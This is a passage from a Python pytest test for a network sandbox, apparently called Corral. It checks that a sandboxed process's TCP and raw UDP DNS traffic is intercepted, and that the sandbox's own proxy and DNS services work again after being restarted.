                        "u=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
                        "u.sendto(b'\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07allowed\\x04test\\x00\\x00\\x01\\x00\\x01',"
                        f" ('{net.mgr.net(net.sid).gateway}', 53)); print('sent')\n")
        assert "CONNECTED" not in out and "tcp TimeoutError" in out and "sent" in out, out
        tcp.setblocking(False)
        udp.setblocking(False)
        with pytest.raises(BlockingIOError):
            tcp.accept()
        with pytest.raises(BlockingIOError):
            udp.recv(512)
    finally:
        tcp.close()
        udp.close()
        net.lt.run(net.mgr.proxy.start(paddr[0], paddr[1], mark=SOCKET_MARK))
        net.lt.run(net.mgr.dns.start(daddr[0], daddr[1], mark=SOCKET_MARK))
    assert net.curl("https://allowed.test/back")[0] == 200  # Corral's own sockets are served again
